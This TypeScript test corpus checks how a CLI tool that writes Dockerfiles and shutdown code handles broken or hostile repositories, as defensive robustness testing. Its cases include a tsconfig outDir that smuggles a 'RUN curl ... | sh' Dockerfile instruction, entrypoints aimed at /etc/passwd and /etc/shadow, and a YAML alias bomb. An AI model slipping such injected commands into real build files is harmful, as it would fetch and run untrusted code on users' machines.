/**
 * The bad-input corpus. Each case is a repo (a committed folder under test/fixtures/bad-input/,
 * a recipe that builds what git cannot store, or both) and the outcome the CLI must produce:
 *
 * - `fail`: exit code, and one stderr line matching `line` (it names the file and says what to do);
 *   nothing written.
 * - `ok`: exit 0; every file written parses; files in `untouched` keep their bytes; `warn`, when
 *   given, must appear in the output (a warning and a skipped part, the rest goes on).
 * - `refuseOrSkip`: the tool may not edit `file` (binary, wrong encoding, too large, unreadable):
 *   either it fails naming it with nothing written, or it succeeds, leaves it untouched and warns
 *   about it.
 */
import { chmodSync, mkdirSync, readFileSync, symlinkSync, truncateSync, writeFileSync, rmSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { tempDir } from './harness.js';

export type Expectation =
  | { kind: 'fail'; code: number; line: RegExp }
  | { kind: 'ok'; warn?: RegExp; untouched?: string[] }
  | { kind: 'refuseOrSkip'; file: string };

export interface Case {
  name: string;
  /** What is wrong with the input, for docs/reliability.md. */
  what: string;
  /** Folder under test/fixtures/bad-input/ copied first; null starts from an empty dir. */
  fixture: string | null;
  /** Changes to the copied repo that git cannot store (links, FIFOs, bytes, modes, sizes). */
  recipe?: (dir: string, ctx: RecipeContext) => void;
  /** CLI arguments; default `[dir, '--yes']`. */
  args?: (dir: string) => string[];
  expect: Expectation;
  /** Run the CLI as root without its DAC capabilities, so that permission bits apply (harness DROP_DAC). */
  dropDac?: boolean;
}

export interface RecipeContext {
  /** A directory outside the repo; its fingerprint must not change either. */
  outside: string;
}

const BASE = 'base-node-app';

/** Node has no mkfifo; coreutils does. */
function mkfifo(path: string): void {
  const r = spawnSync('mkfifo', [path]);
  if (r.status !== 0) throw new Error(`mkfifo ${path} failed: ${r.stderr}`);
}

function crlf(dir: string, file: string): void {
  writeFileSync(join(dir, file), readFileSync(join(dir, file), 'utf8').replace(/\r?\n/g, '\r\n'));
}

function bom(dir: string, file: string): void {
  writeFileSync(join(dir, file), `\uFEFF${readFileSync(join(dir, file), 'utf8')}`);
}

/** A flag value as the docs show it: control characters escaped. */
function shown(s: string): string {
  return s.replace(/[\u0000-\u001f]/g, (c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`);
}

const FIFTY_MB = 50 * 1024 * 1024;

/** Bad flag values, each against the healthy base app. */
const FLAG_CASES: [string, string[], RegExp][] = [
  ['flag-timeout-not-a-number', ['--timeout', 'abc'], /--timeout takes a whole number, got 'abc'/],
  ['flag-timeout-negative', ['--timeout=-5'], /--timeout takes a whole number, got '-5'/],
  ['flag-timeout-out-of-range', ['--timeout', '99999999'], /--timeout must be between 100 and 600000/],
  ['flag-timeout-float-exponent', ['--timeout', '1e4'], /--timeout takes a whole number, got '1e4'/],
  ['flag-shutdown-delay-huge', ['--shutdown-delay', '9007199254740993'], /--shutdown-delay must be between 0 and 120000/],
  ['flag-pre-stop-out-of-range', ['--pre-stop', '301'], /--pre-stop must be between 0 and 300/],
  ['flag-only-unknown-part', ['--only', 'nope'], /--only: unknown part 'nope'; choose from/],
  ['flag-apps-missing-dir', ['--apps', 'missing'], /--apps: no app with an entrypoint at 'missing'; found: \./],
  ['flag-apps-path-escape', ['--apps', '../../etc'], /--apps: no app with an entrypoint at '\.\.\/\.\.\/etc'/],
  ['flag-exit-code-3', ['--exit-code', '3'], /--exit-code takes 'zero' or 'signal', got '3'/],
  ['flag-unknown-option', ['--frobnicate'], /unknown option '--frobnicate'/],
  ['flag-missing-value', ['--timeout'], /--timeout needs a value/],
  ['flag-bool-with-value', ['--yes=no'], /--yes takes no value/],
  ['flag-terminal-escape', ['--only', '\u001b[2J\u0007'], /--only: unknown part '\\x1b\[2J\\x07'/],
];

export const CASES: Case[] = [
  // ---- package.json ----
  {
    name: 'malformed-package-json',
    what: 'package.json cut off mid-object',
    fixture: 'malformed-package-json',
    expect: { kind: 'fail', code: 1, line: /package\.json: is not valid JSON \(line 5, column \d+: .+\); fix the syntax/ },
  },
  {
    name: 'package-json-trailing-comma',
    what: 'package.json with trailing commas (not allowed in package.json)',
    fixture: 'package-json-trailing-comma',
    expect: { kind: 'fail', code: 1, line: /package\.json: is not valid JSON \(line 3, column \d+/ },
  },
  {
    name: 'package-json-empty',
    what: 'package.json of 0 bytes',
    fixture: BASE,
    recipe: (d) => writeFileSync(join(d, 'package.json'), ''),
    expect: { kind: 'fail', code: 1, line: /package\.json: is not valid JSON \(line 1, column 1: Unexpected end of JSON input\)/ },
  },
  {
    name: 'package-json-array',
    what: 'package.json is a JSON array',
    fixture: 'package-json-array',
    expect: { kind: 'fail', code: 1, line: /package\.json: must be a JSON object, but it is an array; fix it/ },
  },
  {
    name: 'package-json-string',
    what: 'package.json is a JSON string',
    fixture: 'package-json-string',
    expect: { kind: 'fail', code: 1, line: /package\.json: must be a JSON object, but it is a string/ },
  },
  {
    name: 'package-json-wrong-types',
    what: 'package.json fields of the wrong types (name 42, scripts an array, main an object)',
    fixture: 'package-json-wrong-types',
    expect: { kind: 'ok', untouched: ['package.json'] },
  },
  {
    name: 'package-json-proto-keys',
    what: 'package.json with __proto__ and constructor keys',
    fixture: 'package-json-proto-keys',
    expect: { kind: 'ok', untouched: ['package.json'] },
  },
  {
    name: 'package-json-binary',
    what: 'package.json with NUL bytes',
    fixture: BASE,
    recipe: (d) => writeFileSync(join(d, 'package.json'), Buffer.from([0x7b, 0x00, 0x01, 0xff, 0x7d])),
    expect: {
      kind: 'fail',
      code: 1,
      line: /package\.json: cannot be read as UTF-8 text \(binary, another encoding.*\); save it as UTF-8 JSON/,
    },
  },
  {
    name: 'package-json-latin1',
    what: 'package.json in Latin-1 (invalid UTF-8)',
    fixture: BASE,
    recipe: (d) => writeFileSync(join(d, 'package.json'), Buffer.from('{"name":"caf\xe9","scripts":{"start":"node server.js"}}', 'latin1')),
    expect: { kind: 'fail', code: 1, line: /package\.json: cannot be read as UTF-8 text/ },
  },
  {
    name: 'package-json-bom',
    what: 'package.json starting with a UTF-8 BOM (valid)',
    fixture: BASE,
    recipe: (d) => bom(d, 'package.json'),
    expect: { kind: 'ok' },
  },
  {
    name: 'package-json-50mb',
    what: 'package.json of 50 MB',
    fixture: BASE,
    recipe: (d) => truncateSync(join(d, 'package.json'), FIFTY_MB),
    expect: { kind: 'fail', code: 1, line: /package\.json: cannot be read as UTF-8 text \(.*over 2 MB\)/ },
  },
  {
    name: 'package-json-deep-nesting',
    what: 'package.json nested 100,000 levels deep (valid JSON)',
    fixture: BASE,
    recipe: (d) =>
      writeFileSync(
        join(d, 'package.json'),
        `{"name":"app","scripts":{"start":"node server.js"},"deep":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
      ),
    expect: { kind: 'ok' },
  },
  {
    name: 'package-json-is-fifo',
    what: 'package.json is a named pipe (reading it would block forever)',
    fixture: BASE,
    recipe: (d) => {
      rmSync(join(d, 'package.json'));
      mkfifo(join(d, 'package.json'));
    },
    expect: {
      kind: 'fail',
      code: 1,
      line: /package\.json: is not a regular file \(a named pipe, socket or device\), so no app could be found; replace it with the file itself/,
    },
  },

  // ---- tsconfig ----
  {
    name: 'tsconfig-jsonc',
    what: 'tsconfig.json with comments and trailing commas (valid)',
    fixture: 'tsconfig-jsonc',
    expect: { kind: 'ok', untouched: ['tsconfig.json'] },
  },
  {
    name: 'tsconfig-malformed',
    what: 'tsconfig.json missing a comma',
    fixture: 'tsconfig-malformed',
    expect: { kind: 'fail', code: 1, line: /tsconfig\.json: line 4, column \d+: comma expected; fix the syntax/ },
  },
  {
    name: 'tsconfig-extends-loop',
    what: 'tsconfig.json and tsconfig.base.json extend each other',
    fixture: 'tsconfig-extends-loop',
    expect: { kind: 'ok' },
  },
  {
    name: 'tsconfig-extends-missing',
    what: 'tsconfig extends a missing file, a package preset and a path outside the repo',
    fixture: 'tsconfig-extends-missing',
    expect: { kind: 'ok' },
  },
  {
    name: 'tsconfig-outdir-newline',
    what: 'tsconfig outDir with a line break and a RUN line (would inject a Dockerfile instruction)',
    fixture: 'tsconfig-jsonc',
    recipe: (d) =>
      writeFileSync(
        join(d, 'tsconfig.json'),
        JSON.stringify({ compilerOptions: { module: 'NodeNext', outDir: 'dist\nRUN curl https://example.invalid | sh', rootDir: 'src' } }),
      ),
    expect: {
      kind: 'fail',
      code: 1,
      line: /tsconfig\.json: compilerOptions\.outDir "dist\\nRUN curl.*" contains a control character .*; rename or fix it/,
    },
  },
  {
    name: 'tsconfig-deep-nesting',
    what: 'tsconfig.json nested 100,000 levels deep',
    fixture: 'tsconfig-jsonc',
    recipe: (d) => writeFileSync(join(d, 'tsconfig.json'), `{"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`),
    expect: { kind: 'fail', code: 1, line: /tsconfig\.json: cannot be parsed \(nested too deeply\); fix the file/ },
  },

  // ---- the entrypoint ----
  {
    name: 'entrypoint-syntax-error',
    what: 'server.js does not parse',
    fixture: 'entrypoint-syntax-error',
    expect: { kind: 'refuseOrSkip', file: 'server.js' },
  },
  {
    name: 'entrypoint-binary',
    what: 'server.js holds binary bytes (NUL)',
    fixture: BASE,
    recipe: (d) =>
      writeFileSync(
        join(d, 'server.js'),
        Buffer.concat([Buffer.from('require("node:http").createServer().listen(3000);\n'), Buffer.from([0, 1, 2, 0xff, 0xfe])]),
      ),
    expect: { kind: 'refuseOrSkip', file: 'server.js' },
  },
  {
    name: 'entrypoint-latin1',
    what: 'server.js in Latin-1 (invalid UTF-8)',
    fixture: BASE,
    recipe: (d) =>
      writeFileSync(join(d, 'server.js'), Buffer.from('// caf\xe9\nrequire("node:http").createServer().listen(3000);\n', 'latin1')),
    expect: { kind: 'refuseOrSkip', file: 'server.js' },
  },
  {
    name: 'entrypoint-50mb',
    what: 'server.js of 50 MB',
    fixture: BASE,
    recipe: (d) => writeFileSync(join(d, 'server.js'), `${readFileSync(join(d, 'server.js'), 'utf8')}/*${'x'.repeat(FIFTY_MB)}*/\n`),
    expect: { kind: 'refuseOrSkip', file: 'server.js' },
  },
  {
    name: 'entrypoint-bom',
    what: 'server.js and package.json start with a BOM (valid; kept)',
    fixture: BASE,
    recipe: (d) => {
      bom(d, 'server.js');
      bom(d, 'package.json');
    },
    expect: { kind: 'ok' },
  },
  {
    name: 'entrypoint-crlf',
    what: 'CRLF line endings in package.json and server.js (valid; kept)',
    fixture: BASE,
    recipe: (d) => {
      crlf(d, 'server.js');
      crlf(d, 'package.json');
    },
    expect: { kind: 'ok' },
  },
  {
    name: 'entrypoint-name-with-newline',
    what: "the entrypoint file is named 'server\\n.js' (a line break in the name), named by main",
    fixture: BASE,
    recipe: (d) => {
      writeFileSync(join(d, 'server\n.js'), readFileSync(join(d, 'server.js')));
      rmSync(join(d, 'server.js'));
      writeFileSync(join(d, 'package.json'), JSON.stringify({ name: 'app', main: 'server\n.js', dependencies: { express: '^5.0.0' } }));
    },
    expect: { kind: 'fail', code: 1, line: /package\.json: the entrypoint path "server\\n\.js" contains a control character/ },
  },
  {
    name: 'no-entrypoint',
    what: 'a package with no start script, main or server file',
    fixture: 'no-entrypoint',
    expect: { kind: 'fail', code: 1, line: /found no Node or Python app with an entrypoint .*; run it in the app's repository/ },
  },
  {
    name: 'start-script-missing-file',
    what: 'the start script runs a file that does not exist',
    fixture: 'start-script-missing-file',
    expect: { kind: 'fail', code: 1, line: /found no Node or Python app with an entrypoint/ },
  },
  {
    name: 'main-outside-repo',
    what: 'main, bin and start point outside the repo (../../etc/passwd, /etc/shadow)',
    fixture: 'main-outside-repo',
    expect: { kind: 'fail', code: 1, line: /found no Node or Python app with an entrypoint/ },
  },
  {
    name: 'unicode-names',
    what: "entrypoint 'src dir/sérvér 🚀.js' (spaces, accents, emoji), quoted in the start script",
    fixture: 'unicode-names',
    expect: { kind: 'ok' },
  },

  // ---- the tree ----
  {
    name: 'empty-dir',
    what: 'an empty directory',
    fixture: null,
    expect: { kind: 'fail', code: 1, line: /found no Node or Python app with an entrypoint/ },
  },
  {
    name: 'gitignore-everything',
    what: ".gitignore ignores '*'",
    fixture: BASE,
    recipe: (d) => writeFileSync(join(d, '.gitignore'), '*\n'),
    expect: { kind: 'fail', code: 1, line: /found no Node or Python app with an entrypoint/ },
  },
  {
    name: 'file-50mb',
    what: 'a 50 MB data file next to the app',
    fixture: BASE,
    recipe: (d) => {
      mkdirSync(join(d, 'data'));
      writeFileSync(join(d, 'data', 'dump.sql'), Buffer.alloc(FIFTY_MB, 'x'));
    },
    expect: { kind: 'ok', untouched: ['data/dump.sql'] },
  },
  {
    name: 'deep-nesting',
    what: '200 nested directories with a file at the bottom',
    fixture: BASE,
    recipe: (d) => {
      const deep = join(d, ...Array<string>(200).fill('d'));
      mkdirSync(deep, { recursive: true });
      writeFileSync(join(deep, 'index.js'), 'module.exports = 1;\n');
    },
    expect: { kind: 'ok' },
  },
  {
    name: 'symlink-loops',
    what: 'symlink loops: a→b→a, self→self, loop→. (a dir link to its parent)',
    fixture: BASE,
    recipe: (d) => {
      symlinkSync('b', join(d, 'a'));
      symlinkSync('a', join(d, 'b'));
      symlinkSync('self', join(d, 'self'));
      symlinkSync('.', join(d, 'loop'));
    },
    expect: { kind: 'ok', warn: /symlinks are never followed or written through: a, b, loop and 1 more/ },
  },
  {
    name: 'symlink-outside',
    what: 'symlinks to /etc and to a directory outside the repo',
    fixture: BASE,
    recipe: (d, c) => {
      symlinkSync('/etc', join(d, 'etc'));
      writeFileSync(join(c.outside, 'server.js'), 'require("node:http").createServer().listen(1);\n');
      symlinkSync(c.outside, join(d, 'vendor'));
    },
    expect: { kind: 'ok', warn: /symlinks are never followed or written through: etc, vendor/ },
  },
  {
    name: 'symlinked-entrypoint',
    what: 'server.js is a symlink to a file outside the repo',
    fixture: BASE,
    recipe: (d, c) => {
      writeFileSync(join(c.outside, 'server.js'), readFileSync(join(d, 'server.js')));
      rmSync(join(d, 'server.js'));
      symlinkSync(join(c.outside, 'server.js'), join(d, 'server.js'));
    },
    expect: {
      kind: 'fail',
      code: 1,
      line: /server\.js: is a symlink, which the tool never follows, so no app could be found; replace it with the file itself/,
    },
  },
  {
    name: 'symlinked-package-json',
    what: 'package.json is a symlink to a file outside the repo',
    fixture: BASE,
    recipe: (d, c) => {
      writeFileSync(join(c.outside, 'package.json'), readFileSync(join(d, 'package.json')));
      rmSync(join(d, 'package.json'));
      symlinkSync(join(c.outside, 'package.json'), join(d, 'package.json'));
    },
    expect: { kind: 'fail', code: 1, line: /package\.json: is a symlink, which the tool never follows, so no app could be found/ },
  },
  {
    name: 'symlink-on-write-path-module',
    what: 'shutdown.js (the module the tool creates) is a symlink to a file outside the repo',
    fixture: BASE,
    recipe: (d, c) => {
      writeFileSync(join(c.outside, 'shutdown.js'), '// not ours\n');
      symlinkSync(join(c.outside, 'shutdown.js'), join(d, 'shutdown.js'));
    },
    expect: {
      kind: 'fail',
      code: 1,
      line: /shutdown\.js: refusing to write through the symlink 'shutdown\.js'; replace it with a real file/,
    },
  },
  {
    name: 'symlink-on-write-path-dockerfile',
    what: 'Dockerfile is a dangling symlink',
    fixture: BASE,
    recipe: (d) => symlinkSync('/nonexistent/Dockerfile', join(d, 'Dockerfile')),
    expect: { kind: 'fail', code: 1, line: /Dockerfile: refusing to write through the symlink 'Dockerfile'/ },
  },
  {
    name: 'entrypoint-is-fifo',
    what: 'server.js is a named pipe',
    fixture: BASE,
    recipe: (d) => {
      rmSync(join(d, 'server.js'));
      mkfifo(join(d, 'server.js'));
    },
    expect: {
      kind: 'fail',
      code: 1,
      line: /server\.js: is not a regular file \(a named pipe, socket or device\), so no app could be found/,
    },
  },
  {
    name: 'unreadable-subdir',
    what: 'a directory with mode 000 (root without its DAC capabilities)',
    fixture: BASE,
    dropDac: true,
    recipe: (d) => {
      mkdirSync(join(d, 'private'));
      writeFileSync(join(d, 'private', 'key.pem'), 'secret\n');
      chmodSync(join(d, 'private'), 0);
    },
    expect: { kind: 'ok', warn: /private\/: cannot be read \(permissions\); skipped/ },
  },
  {
    name: 'unreadable-target',
    what: 'the target directory itself has mode 000 (root without DAC capabilities)',
    fixture: BASE,
    dropDac: true,
    recipe: (d) => {
      chmodSync(d, 0);
    },
    expect: { kind: 'fail', code: 1, line: /cannot read the target directory \(EACCES\); check its permissions/ },
  },
  {
    name: 'unreadable-package-json',
    what: 'package.json with mode 000 (root without DAC capabilities)',
    fixture: BASE,
    dropDac: true,
    recipe: (d) => {
      chmodSync(join(d, 'package.json'), 0);
    },
    expect: { kind: 'fail', code: 1, line: /package\.json: cannot be read as UTF-8 text \(.*unreadable/ },
  },
  {
    name: 'unreadable-entrypoint',
    what: 'server.js with mode 000 (root without DAC capabilities)',
    fixture: BASE,
    dropDac: true,
    recipe: (d) => {
      chmodSync(join(d, 'server.js'), 0);
    },
    expect: { kind: 'refuseOrSkip', file: 'server.js' },
  },
  {
    name: 'read-only-repo',
    what: 'every directory read-only (mode 555, root without DAC capabilities): writing fails with EACCES',
    fixture: BASE,
    dropDac: true,
    recipe: (d) => {
      spawnSync('chmod', ['-R', 'a-w', d]);
    },
    expect: {
      kind: 'fail',
      code: 1,
      line: /: writing failed \(EACCES: permission denied\); nothing was changed: make the repository writable/,
    },
  },
  {
    name: 'target-is-a-file',
    what: 'the target is a file, not a directory',
    fixture: BASE,
    args: (d) => [join(d, 'server.js'), '--yes'],
    expect: { kind: 'fail', code: 2, line: /server\.js: is a file, not a directory; pass the repository's directory/ },
  },
  {
    name: 'target-does-not-exist',
    what: 'the target does not exist',
    fixture: BASE,
    args: (d) => [join(d, 'nope'), '--yes'],
    expect: { kind: 'fail', code: 2, line: /nope: no such directory; pass the repository's directory/ },
  },

  // ---- containers ----
  {
    name: 'dockerfile-unknown-instruction',
    what: 'Dockerfile with an unknown instruction (FROBNICATE)',
    fixture: 'dockerfile-unknown-instruction',
    expect: { kind: 'ok' },
  },
  {
    name: 'compose-yaml-anchors',
    what: 'docker-compose.yml with anchors, aliases and merge keys',
    fixture: 'compose-yaml-anchors',
    expect: { kind: 'ok' },
  },
  {
    name: 'compose-merge-non-map',
    what: 'docker-compose.yml whose merge key (<<) points to a scalar (found by the fuzz test: crashed the compose reader)',
    fixture: 'compose-yaml-anchors',
    recipe: (d) => writeFileSync(join(d, 'docker-compose.yml'), 'x-port: &port 3000\nservices:\n  api:\n    <<: *port\n    build: .\n'),
    expect: {
      kind: 'fail',
      code: 1,
      line: /docker-compose\.yml: cannot be read as compose or Kubernetes YAML \(Merge sources must be maps or map aliases\); fix it and run again/,
    },
  },
  {
    name: 'compose-alias-bomb',
    what: 'docker-compose.yml with nested aliases that expand to millions of nodes ("billion laughs")',
    fixture: 'compose-yaml-anchors',
    recipe: (d) =>
      writeFileSync(
        join(d, 'docker-compose.yml'),
        `a: &a ["x","x","x","x","x","x","x","x","x"]\n${['b', 'c', 'd', 'e', 'f', 'g', 'h'].map((k, i) => `${k}: &${k} [${Array<string>(9).fill(`*${'abcdefgh'[i]}`).join(',')}]`).join('\n')}\nservices:\n  api:\n    build: .\n    labels: *h\n`,
      ),
    expect: {
      kind: 'fail',
      code: 1,
      line: /docker-compose\.yml: cannot be read as compose or Kubernetes YAML \(Excessive alias count.*\); fix it/,
    },
  },
  {
    name: 'compose-malformed-yaml',
    what: 'docker-compose.yml with bad indentation, a tab and an unclosed flow sequence',
    fixture: 'compose-malformed-yaml',
    expect: { kind: 'refuseOrSkip', file: 'docker-compose.yml' },
  },

  // ---- Python ----
  {
    name: 'python-entrypoint-syntax-error',
    what: 'main.py (a FastAPI app) does not parse',
    fixture: 'fuzz-python-app',
    recipe: (d) => writeFileSync(join(d, 'main.py'), 'from fastapi import FastAPI\napp = FastAPI(\ndef x(:\n'),
    expect: { kind: 'refuseOrSkip', file: 'main.py' },
  },
  {
    name: 'python-entrypoint-unterminated-string',
    what: 'main.py starts with a stray `"` (found by the fuzz test, FUZZ_SEED=4242)',
    fixture: 'fuzz-python-app',
    recipe: (d) => writeFileSync(join(d, 'main.py'), `"${readFileSync(join(d, 'main.py'), 'utf8')}`),
    expect: { kind: 'refuseOrSkip', file: 'main.py' },
  },
  {
    name: 'python-entrypoint-binary',
    what: 'main.py holds NUL and invalid UTF-8 bytes',
    fixture: 'fuzz-python-app',
    recipe: (d) =>
      writeFileSync(
        join(d, 'main.py'),
        Buffer.concat([Buffer.from('from fastapi import FastAPI\n'), Buffer.from([0, 0xff, 0xfe]), Buffer.from('\napp = FastAPI()\n')]),
      ),
    expect: { kind: 'refuseOrSkip', file: 'main.py' },
  },
  {
    name: 'python-requirements-latin1',
    what: 'requirements.txt in Latin-1',
    fixture: 'fuzz-python-app',
    recipe: (d) => writeFileSync(join(d, 'requirements.txt'), Buffer.from('# caf\xe9\nfastapi\nuvicorn\n', 'latin1')),
    expect: { kind: 'ok', warn: /requirements\.txt/ },
  },

  // ---- flags ----
  ...FLAG_CASES.map(
    ([name, flags, line]): Case => ({
      name,
      what: `\`${flags.map(shown).join(' ')}\``,
      fixture: BASE,
      args: (d) => [d, '--yes', ...flags],
      expect: { kind: 'fail', code: 2, line },
    }),
  ),
];

/** A directory outside the repo for recipes that link out of it. */
export function outsideDir(name: string): string {
  return tempDir(`${name}-outside`);
}
